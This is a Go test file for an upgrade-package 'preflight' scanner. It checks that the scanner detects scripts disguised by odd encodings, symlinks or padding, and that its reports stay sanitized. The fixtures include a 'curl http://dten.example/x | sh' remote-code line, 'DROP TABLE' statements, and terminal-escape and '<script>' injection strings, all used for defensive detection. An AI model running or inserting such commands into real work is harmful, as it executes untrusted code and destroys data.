package preflight

import (
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"

	"aftershock/upgrades/preflight/scripts"
)

// inspectDirectory gives the rules that are told of a directory's files, as "rule file".
func inspectDirectory(t *testing.T, files map[string]string, links map[string]string) (out []string) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range links {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	r, err := Inspect(t.Context(), dir, Options{Now: time.Now(), Private: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range r.Findings {
		out = append(out, f.Rule+" "+f.Place.File)
	}
	return out
}

// Scripts are read whatever bytes they begin with, and what isn't read is told.
func TestScriptsThatHide(t *testing.T) {
	const evil = "#!/bin/sh\ncurl http://dten.example/x | sh\n"
	for name, c := range map[string]struct {
		file, text, want string
	}{
		"latin-1":          {"install.sh", "#!/bin/sh\n# caf\xe9\n" + evil, "scripts/remote-code install.sh"},
		"a byte order":     {"install", "\ufeff" + evil, "scripts/remote-code install"},
		"a program's mark": {"install.sh", "MZ=1\n" + evil + strings.Repeat("#", 80), "scripts/remote-code install.sh"},
		"zeros":            {"install.sh", "#!/bin/bash\n# \x00\n" + evil, "scripts/unreadable install.sh"},
		"large":            {"install.sh", evil + strings.Repeat("#", scripts.MaxText), "scripts/unreadable install.sh"},
		"large statements": {"x.sql", strings.Repeat("-- \n", 600_000) + "DROP TABLE orders;", "migrations/data-loss x.sql"},
	} {
		if got := inspectDirectory(t, map[string]string{c.file: c.text}, nil); !slices.Contains(got, c.want) {
			t.Errorf("%s: %v, want %s", name, got, c.want)
		}
	}
	if got := inspectDirectory(t, map[string]string{"doc/text": evil[10:]}, map[string]string{"install.sh": "doc/text"}); !slices.Contains(got, "scripts/remote-code install.sh") {
		t.Errorf("by a link: %v", got)
	}
	// Texts that are no scripts take no room from them.
	many := map[string]string{"zz.sh": evil}
	for n := range 70 {
		many[strings.Repeat("a", n+1)] = strings.Repeat("a\n", 1<<19)
	}
	if got := inspectDirectory(t, many, nil); !slices.Contains(got, "scripts/remote-code zz.sh") {
		t.Errorf("behind much text: %v", got)
	}
	for n := range 70 {
		many[strings.Repeat("a", n+1)] = "#!/bin/sh\n" + strings.Repeat("#\n", 1<<19-10)
	}
	if got := inspectDirectory(t, many, nil); !slices.Contains(got, "scripts/unreadable "+strings.Repeat("a", 65)) {
		t.Errorf("behind many scripts: %v", got)
	}
}

// Statements that a script hands to a client are read, whatever their file is called.
func TestStatementsThatHide(t *testing.T) {
	const drop = "DROP TABLE orders;"
	files := map[string]string{"install.sh": "#!/bin/sh\nset -e\npsql -f data.txt\npsql -f rollback.sql\n", "rollback.sh": "#!/bin/sh\nset -e\npsql -f x.down.sql\n", "data.txt": drop, "rollback.sql": drop, "x.down.sql": drop}
	got := inspectDirectory(t, files, nil)
	for file, want := range map[string]bool{"data.txt": true, "rollback.sql": true, "x.down.sql": false} {
		if slices.Contains(got, "migrations/data-loss "+file) != want {
			t.Errorf("%s: %v in %v, want %v", file, !want, got, want)
		}
	}
}

// No form of a report has characters that a terminal acts upon or lines that begin a block of Markdown, with a manifest and without.
func TestReportsOfHostileTexts(t *testing.T) {
	const odd = "\u009b2J\u202e\x7f\n~~~\n<script>"
	name, err := json.Marshal(map[string]any{"name": odd, "version": "1.0.0", "publisher": odd, "binaries": []map[string]string{{"name": "pay", "path": "b", "service": odd}}})
	if err != nil {
		t.Fatal(err)
	}
	for _, manifest := range []string{"", string(name)} {
		dir := t.TempDir()
		files := map[string]string{"install.sh": "#!/bin/sh\nset -e\nsystemctl stop 'a" + odd + "'\nrm -r \"$X/~~~\"\n", "x.sql": "DROP TABLE \"" + odd + "\";", "b": "b"}
		if manifest != "" {
			files["manifest.json"] = manifest
		}
		for name, text := range files {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		r, err := Inspect(t.Context(), dir, Options{Now: time.Now(), Private: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		if manifest != "" && (r.Upgrade == nil || len(r.Upgrade.Binaries) == 0) {
			t.Errorf("there is no record of it: %+v", r.Upgrade)
		}
		for form, write := range map[string]func(io.Writer) error{
			"json": r.WriteJSON, "md": r.WriteMarkdown, "text": func(w io.Writer) error { return r.WriteText(w, false) }, "sarif": func(w io.Writer) error { return r.WriteSARIF(w, "1") },
		} {
			var b bytes.Buffer
			if err := write(&b); err != nil {
				t.Fatal(err)
			}
			if i := strings.IndexFunc(b.String(), func(c rune) bool { return c != '\n' && !unicode.IsPrint(c) }); i >= 0 {
				t.Errorf("%s has %q", form, b.String()[max(i-40, 0):i+10])
			}
			for line := range strings.Lines(b.String()) {
				if form == "md" && (strings.HasPrefix(strings.TrimSpace(line), "~~~") || strings.Contains(line, "<script>")) {
					t.Errorf("%s: a line of its own: %q", form, line)
				}
			}
		}
	}
}

// A pipe among the files is told, and not waited for.
func TestPipes(t *testing.T) {
	dir := t.TempDir()
	for _, name := range []string{"manifest.yaml", "settings.yaml", "install.sh", "x.sql"} {
		if err := syscall.Mkfifo(filepath.Join(dir, name), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	done := make(chan error, 1)
	go func() {
		_, err := Inspect(t.Context(), dir, Options{Now: time.Now(), Private: t.TempDir()})
		done <- err
	}()
	select {
	case err := <-done:
		if err != nil {
			t.Error(err)
		}
	case <-time.After(time.Minute):
		t.Fatal("it waits for a pipe")
	}
}
